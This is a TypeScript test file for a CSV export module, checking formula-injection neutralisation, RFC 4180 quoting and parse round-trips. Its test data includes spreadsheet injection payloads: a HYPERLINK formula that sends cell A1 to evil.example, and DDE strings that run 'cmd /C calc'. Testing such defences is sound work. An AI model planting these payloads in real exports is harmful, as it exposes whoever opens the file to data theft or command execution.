import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { csvField, isFormulaLike, neutraliseText, parseCsv, quoteField, toCsv, type CsvCell } from './csv';

describe('formula-injection neutralisation', () => {
	it.each([
		['=1+1', "'=1+1"],
		['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
		['+49 30 1234', "'+49 30 1234"],
		['-12.50', "'-12.50"],
		['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
		['@SUM(A1:A9)', "'@SUM(A1:A9)"],
		['\t=1+1', "'\t=1+1"],
		['\r=1+1', `"'\r=1+1"`],
		['  =1+1', "'  =1+1"],
		['DDE ("cmd";"/C calc";"!A0")', `"DDE (""cmd"";""/C calc"";""!A0"")"`],
		['Plain title, with a comma', '"Plain title, with a comma"'],
		['喜马拉雅 有声书', '喜马拉雅 有声书'],
		['', ''],
		['a=b', 'a=b'],
		['line\nbreak', '"line\nbreak"']
	])('text %j is written as %j', (input, expected) => {
		expect(csvField(input)).toBe(expected);
	});

	it.each<[CsvCell, string]>([
		[{ amount: '-12.50' }, '-12.50'],
		[{ amount: '1234.00' }, '1234.00'],
		[{ amount: '0' }, '0'],
		[{ amount: '=1+1' }, "'=1+1"],
		[{ amount: '-1+2' }, "'-1+2"],
		[{ amount: '1,234.00' }, '"1,234.00"'],
		[-7, '-7'],
		[0.25, '0.25'],
		[Number.NaN, ''],
		[null, ''],
		[undefined, '']
	])('non-text cell %j is written as %j', (cell, expected) => {
		expect(csvField(cell)).toBe(expected);
	});

	it.each([
		['=', true],
		['+', true],
		['-', true],
		['@', true],
		['\t', true],
		['\r', true],
		[' @x', true],
		['x=1', false],
		['   ', false],
		['', false]
	])('isFormulaLike(%j) = %s', (text, expected) => {
		expect(isFormulaLike(text)).toBe(expected);
	});

	it('no neutralised text cell starts with a formula character (property)', () => {
		fc.assert(
			fc.property(fc.string(), (s) => {
				const out = neutraliseText(s);
				expect(isFormulaLike(out)).toBe(false);
				expect(out.endsWith(s)).toBe(true);
			})
		);
	});
});

describe('RFC 4180 documents', () => {
	it('writes a BOM, CRLF after each record and quotes what needs quoting', () => {
		const csv = toCsv(['title', 'net'], [['He said "hi"', { amount: '-3.00' }], ['a,b', 4]]);
		expect(csv).toBe('\uFEFFtitle,net\r\n"He said ""hi""",-3.00\r\n"a,b",4\r\n');
		expect(toCsv(['x'], [], { bom: false })).toBe('x\r\n');
	});

	it.each([
		['plain', 'plain'],
		['with "quote"', '"with ""quote"""'],
		[' lead', '" lead"'],
		['cr\rinside', '"cr\rinside"']
	])('quoteField(%j) = %j', (input, expected) => {
		expect(quoteField(input)).toBe(expected);
	});

	it('round-trips any text through parseCsv, modulo the apostrophe (property)', () => {
		fc.assert(
			fc.property(fc.array(fc.array(fc.string(), { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
				const width = Math.max(...rows.map((r) => r.length));
				const padded = rows.map((r) => [...r, ...Array(width - r.length).fill('x')]);
				const header = padded[0].map((_, i) => `c${i}`);
				const back = parseCsv(toCsv(header, padded));
				expect(back[0]).toEqual(header);
				expect(back.slice(1)).toEqual(padded.map((r) => r.map(neutraliseText)));
			})
		);
	});
});
